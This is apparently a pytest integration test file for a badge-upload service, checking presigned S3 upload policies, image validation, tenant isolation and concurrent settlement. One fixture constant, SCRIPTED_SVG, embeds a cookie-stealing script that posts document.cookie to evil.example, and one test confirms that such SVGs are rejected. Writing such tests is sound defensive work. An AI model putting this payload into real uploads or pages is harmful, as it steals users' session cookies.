"""Custom badges end to end in process: the api handler on DynamoDB Local and the moto server's
S3, uploads through real presigned POSTs (multipart forms sent with requests)."""

from __future__ import annotations

import base64
import io
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from typing import Any

import pytest
import requests
from PIL import Image

from accolade.domain.badges import MAX_BADGE_BYTES
from accolade_local.handlers import load_handler
from accolade_local.services import client
from accolade_local.template import LocalNames
from tests.http_events import call, claims, http_event

api = load_handler("api")


@pytest.fixture
def badges_env(
    accolade: Any, provisioned: LocalNames, monkeypatch: pytest.MonkeyPatch
) -> Iterator[str]:
    """The api function's env: the badges bucket the template gives it."""
    from accolade import bootstrap

    monkeypatch.setenv("BADGES_BUCKET_NAME", provisioned.bucket_name("BadgesBucket"))
    bootstrap.reset()
    yield provisioned.bucket_name("BadgesBucket")
    bootstrap.reset()


def png(width: int, height: int | None = None) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height or width), (30, 90, 200)).save(out, "PNG")
    return out.getvalue()


SCRIPTED_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle r="9"/>'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)
GOOD_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64">'
    b'<circle cx="32" cy="32" r="30" fill="#e9b520"/></svg>'
)


def create(tenant_id: str, levels: int, content_type: str) -> dict[str, Any]:
    body = {"name": "Rainmaker", "levels": levels, "content_type": content_type}
    who = claims(tenant_id, "root", admin=True)
    status, created = call(api, http_event("POST", "/v1/admin/badges", body=body, claims=who))
    assert status == 201, created
    return dict(created)


def upload(form: dict[str, Any], data: bytes, content_type: str) -> requests.Response:
    """What a browser does with an upload link: a multipart POST, the fields then the file."""
    return requests.post(
        form["url"], data=form["fields"], files={"file": ("badge", data, content_type)}, timeout=30
    )


def validate(tenant_id: str, badge_id: str) -> tuple[int, Any]:
    who = claims(tenant_id, "root", admin=True)
    return call(api, http_event("POST", f"/v1/admin/badges/{badge_id}/validate", claims=who))


def test_the_upload_policy_holds_s3_to_the_key_type_size_and_fifteen_minutes(
    badges_env: str, tenant_id: str
) -> None:
    created = create(tenant_id, 1, "image/png")
    fields = created["uploads"][0]["fields"]
    policy = json.loads(base64.b64decode(fields["policy"]))
    expires = datetime.fromisoformat(policy["expiration"].replace("Z", "+00:00"))

    assert fields["key"] == f"uploads/{tenant_id}/{created['badge_id']}/1"
    assert fields["x-amz-algorithm"] == "AWS4-HMAC-SHA256"  # SigV4, accepted in every region
    assert {"Content-Type": "image/png"} in policy["conditions"]
    assert {"key": fields["key"]} in policy["conditions"]
    assert {"bucket": badges_env} in policy["conditions"]
    assert ["content-length-range", 1, MAX_BADGE_BYTES] in policy["conditions"]
    assert 14 * 60 < (expires - datetime.now(UTC)).total_seconds() <= 15 * 60


def test_a_good_png_uploaded_through_its_link_becomes_ready_and_links_to_itself(
    badges_env: str, tenant_id: str
) -> None:
    created = create(tenant_id, 1, "image/png")
    image = png(256)

    posted = upload(created["uploads"][0], image, "image/png")
    status, checked = validate(tenant_id, created["badge_id"])

    assert posted.status_code in (200, 201, 204)
    assert status == 200
    assert checked["status"] == "ready", checked
    downloaded = requests.get(checked["images"][0]["url"], timeout=30)
    assert downloaded.status_code == 200
    assert downloaded.content == image


def test_an_oversized_upload_is_invalid_even_where_the_policy_is_not_enforced(
    badges_env: str, tenant_id: str
) -> None:
    # S3 refuses this POST by the policy's content-length-range; the emulator stores it, so
    # validation is the second line: the size is checked again on the bytes.
    created = create(tenant_id, 1, "image/png")
    oversized = png(256) + b"\0" * MAX_BADGE_BYTES

    upload(created["uploads"][0], oversized, "image/png")
    checked = validate(tenant_id, created["badge_id"])[1]

    assert checked["status"] == "invalid"
    assert checked["reason"] == "levels[1]: larger than 512 KiB"


def test_a_png_of_the_wrong_dimensions_is_invalid(badges_env: str, tenant_id: str) -> None:
    created = create(tenant_id, 3, "image/png")
    for form, size in zip(created["uploads"], (128, 128, 48), strict=True):
        upload(form, png(size), "image/png")

    checked = validate(tenant_id, created["badge_id"])[1]

    assert checked["status"] == "invalid"
    assert checked["reason"] == "levels[3]: 48x48 px: a badge is 64-1024 px a side"
    assert checked["images"] == []


def test_an_svg_with_a_script_is_invalid_and_never_published(
    badges_env: str, tenant_id: str, provisioned: LocalNames, aws_endpoint: str
) -> None:
    created = create(tenant_id, 1, "image/svg+xml")

    upload(created["uploads"][0], SCRIPTED_SVG, "image/svg+xml")
    checked = validate(tenant_id, created["badge_id"])[1]

    assert checked["status"] == "invalid"
    assert checked["reason"] == "levels[1]: SVG with a <script> element is refused"
    s3 = client("s3", aws_endpoint, provisioned.region)
    published = s3.list_objects_v2(Bucket=badges_env, Prefix=f"badges/{tenant_id}/")
    assert published.get("KeyCount", 0) == 0


def test_a_good_svg_family_becomes_ready_and_usable_by_an_achievement(
    badges_env: str, tenant_id: str
) -> None:
    created = create(tenant_id, 3, "image/svg+xml")
    definition = {
        "name": "Rainmaker",
        "type": "manual",
        "badge": created["badge"],
        "levels": [{"threshold": 1, "points": 50}],
    }
    who = claims(tenant_id, "root", admin=True)
    before = call(api, http_event("POST", "/v1/admin/achievements", body=definition, claims=who))
    for form in created["uploads"]:
        upload(form, GOOD_SVG, "image/svg+xml")

    checked = validate(tenant_id, created["badge_id"])[1]
    after = call(api, http_event("POST", "/v1/admin/achievements", body=definition, claims=who))

    assert before[0] == 422 and before[1]["error"]["details"][0]["field"] == "badge"
    assert checked["status"] == "ready"
    assert [image["level"] for image in checked["images"]] == [1, 2, 3]
    assert after[0] == 201 and after[1]["badge"] == created["badge"]


def test_another_tenants_badge_is_404(badges_env: str, tenant_id: str) -> None:
    created = create(tenant_id, 1, "image/png")
    other = claims(f"{tenant_id}-other", "root", admin=True)

    read = call(api, http_event("GET", f"/v1/admin/badges/{created['badge_id']}", claims=other))
    checked = validate(f"{tenant_id}-other", created["badge_id"])
    listed = call(api, http_event("GET", "/v1/admin/badges", claims=other))

    assert read[0] == 404
    assert checked[0] == 404
    assert listed[1]["items"] == []


def test_concurrent_validations_settle_the_badge_once(
    badges_env: str, tenant_id: str, dynamodb_client: Any, table_name: str
) -> None:
    created = create(tenant_id, 1, "image/png")
    upload(created["uploads"][0], png(512), "image/png")

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: validate(tenant_id, created["badge_id"]), range(4)))

    assert {status for status, _ in answers} == {200}
    assert {body["status"] for _, body in answers} == {"ready"}
    assert len({body["validated_at"] for _, body in answers}) == 1
    item = dynamodb_client.get_item(
        TableName=table_name,
        Key={"PK": {"S": f"T#{tenant_id}#BADGES"}, "SK": {"S": f"BADGE#{created['badge_id']}"}},
        ConsistentRead=True,
    )["Item"]
    assert item["status"]["S"] == "ready"
    assert "expires_at" not in item  # settled: no longer dropped by the TTL


def test_a_pending_badge_carries_a_ttl_and_its_missing_levels(
    badges_env: str, tenant_id: str, dynamodb_client: Any, table_name: str
) -> None:
    created = create(tenant_id, 3, "image/webp")

    checked = validate(tenant_id, created["badge_id"])[1]
    item = dynamodb_client.get_item(
        TableName=table_name,
        Key={"PK": {"S": f"T#{tenant_id}#BADGES"}, "SK": {"S": f"BADGE#{created['badge_id']}"}},
        ConsistentRead=True,
    )["Item"]

    assert (checked["status"], checked["missing"]) == ("pending", [1, 2, 3])
    assert int(item["expires_at"]["N"]) > datetime.now(UTC).timestamp() + 24 * 3600


def test_a_badge_settles_once_in_dynamodb(badges_env: str, tenant_id: str) -> None:
    from accolade.adapters.dynamo.badges import DynamoBadgeRepository
    from accolade.domain.badges import BadgeStatus

    repository = DynamoBadgeRepository()
    created = create(tenant_id, 1, "image/png")
    pending = repository.get_badge(tenant_id, created["badge_id"])
    assert pending is not None
    ready = pending.model_copy(update={"status": BadgeStatus.READY})
    invalid = pending.model_copy(update={"status": BadgeStatus.INVALID, "reason": "late"})

    first = repository.settle_badge(tenant_id, ready)
    second = repository.settle_badge(tenant_id, invalid)

    assert (first, second) == (True, False)
    assert repository.get_badge(tenant_id, created["badge_id"]) == ready
